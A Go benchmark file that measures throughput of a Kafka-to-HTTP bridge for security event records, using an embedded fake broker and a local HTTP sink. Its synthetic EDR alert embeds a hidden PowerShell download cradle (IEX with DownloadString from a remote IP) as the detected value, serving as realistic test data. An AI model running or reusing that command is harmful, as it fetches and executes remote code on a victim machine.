package bridge_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kfake"
	"github.com/twmb/franz-go/pkg/kgo"

	"serbridge/bridge"
	"serbridge/bridge/deadletter"
	"serbridge/bridge/secret"
	"serbridge/bridge/stellar"
	"serbridge/transform"
	"serbridge/transform/format"
)

// BenchmarkPipeline drives records of about 560 bytes from an embedded broker
// through the whole bridge into a bare HTTP sink, and beside it the floor: the
// same documents POSTed by a bare net/http loop over as many connections. Sink
// and broker share the process, so compare the figures of one run only.
//
//	go test -run '^$' -bench Pipeline ./bridge
func BenchmarkPipeline(b *testing.B) {
	for _, latency := range []time.Duration{0, 5 * time.Millisecond} {
		b.Run(fmt.Sprintf("floor/%v", latency), func(b *testing.B) { benchmarkFloor(b, latency) })
		b.Run(fmt.Sprintf("bridge/%v", latency), func(b *testing.B) { benchmarkBridge(b, latency, 200) })
	}
	b.Run("unbounded/0s", func(b *testing.B) { benchmarkBridge(b, 0, -1) })
}

const benchInFlight = 64

func benchRecord(i int) []byte {
	return fmt.Appendf(nil, `{"event_name":"Suspicious PowerShell download cradle","timestamp":%d,"event_status":"New","event_source":"bench_edr",`+
		`"event_category":"killchain","event_type":"process","severity":%d,"event_score":%d,"fidelity":87.5,"orig_id":"bench-%09d",`+
		`"detected_field":"process.command_line","detected_value":"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",`+
		`"host":"workstation-%04d","user":"j.doe","srcip":"10.20.%d.%d","dstip":"198.51.100.7","rule_id":"R-1042","url":"https://edr.example.com/alerts/%d"}`,
		1_750_000_000_000+int64(i), i%101, i%101, i, i%5000, i%250, i%199, i)
}

// sink answers every POST as the API does, after a latency, and counts them.
type sink struct {
	latency time.Duration
	count   atomic.Int64
	target  int64
	done    chan struct{}
	url     string
}

func newSink(b *testing.B, latency time.Duration, target int) *sink {
	s := &sink{latency: latency, target: int64(target), done: make(chan struct{})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	server := &http.Server{Handler: s}
	go server.Serve(ln) // ended by Close
	b.Cleanup(func() { server.Close() })
	s.url = "http://" + ln.Addr().String()
	return s
}

func (s *sink) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	if s.latency > 0 {
		time.Sleep(s.latency)
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = io.WriteString(w, `{"index":"aella-ser-2026.11.24-","_id":"ZbWyFnkBZsFu_Ay8bQxZ"}`)
	if s.count.Add(1) == s.target {
		close(s.done)
	}
}

// report says what one document cost, from the start of the timer on.
func report(b *testing.B, work func()) {
	cpu := cpuTime()
	b.ReportAllocs()
	b.ResetTimer()
	work()
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "docs/s")
	b.ReportMetric(float64((cpuTime()-cpu).Microseconds())/float64(b.N), "cpu-µs/doc")
}

func cpuTime() time.Duration {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

func benchmarkFloor(b *testing.B, latency time.Duration) {
	s := newSink(b, latency, b.N)
	docs := make([][]byte, b.N)
	for i := range docs {
		r := format.Transform(transform.Input{Value: benchRecord(i), Topic: "bench", Offset: int64(i), Timestamp: time.Now(), Now: time.Now()})
		docs[i], _ = r.Parts[0].Document.Encode()
	}
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: benchInFlight, MaxConnsPerHost: benchInFlight}}
	b.Cleanup(client.CloseIdleConnections)
	report(b, func() {
		var next atomic.Int64
		var all sync.WaitGroup
		for range benchInFlight {
			all.Go(func() {
				for i := next.Add(1) - 1; i < int64(len(docs)); i = next.Add(1) - 1 {
					resp, err := client.Post(s.url, "application/json", bytes.NewReader(docs[i]))
					if err != nil {
						b.Error(err)
						return
					}
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
			})
		}
		all.Wait()
	})
}

func benchmarkBridge(b *testing.B, latency time.Duration, maxRepeats int) {
	s := newSink(b, latency, b.N)
	broker, err := kfake.NewCluster(kfake.NumBrokers(1), kfake.SeedTopics(8, "bench"))
	if err != nil {
		b.Fatal(err)
	}
	defer broker.Close()
	options := []kgo.Opt{kgo.SeedBrokers(broker.ListenAddrs()...)}
	fill(b, options, b.N)
	client, err := stellar.New(stellar.Config{URL: s.url, Auth: stellar.AuthBasic, MaxInFlight: benchInFlight,
		User: secret.Literal("bench@example.com"), APIKey: secret.Literal("bench-key")})
	if err != nil {
		b.Fatal(err)
	}
	defer client.Close()
	letters, err := deadletter.NewWriter(deadletter.Config{Options: options, Topic: "bench.dlq", Create: true})
	if err != nil {
		b.Fatal(err)
	}
	defer letters.Close()
	br, err := bridge.New(bridge.Config{Kafka: options, Topics: []string{"bench"}, Group: "bench", Stellar: client,
		DeadLetters: letters, MaxInFlight: benchInFlight, MaxRepeats: maxRepeats, RateLimit: 1e6, RateBurst: 1000})
	if err != nil {
		b.Fatal(err)
	}
	ctx, stop := context.WithCancel(context.Background())
	ended := make(chan error, 1)
	report(b, func() {
		go func() { ended <- br.Run(ctx) }()
		<-s.done
	})
	stop()
	if err := <-ended; err != nil {
		b.Fatal(err)
	}
}

func fill(b *testing.B, options []kgo.Opt, n int) {
	producer, err := kgo.NewClient(append(options, kgo.DefaultProduceTopic("bench"))...)
	if err != nil {
		b.Fatal(err)
	}
	defer producer.Close()
	for i := range n {
		producer.Produce(context.Background(), &kgo.Record{Value: benchRecord(i)}, func(_ *kgo.Record, err error) {
			if err != nil {
				b.Error(err)
			}
		})
	}
	if err := producer.Flush(context.Background()); err != nil {
		b.Fatal(err)
	}
}
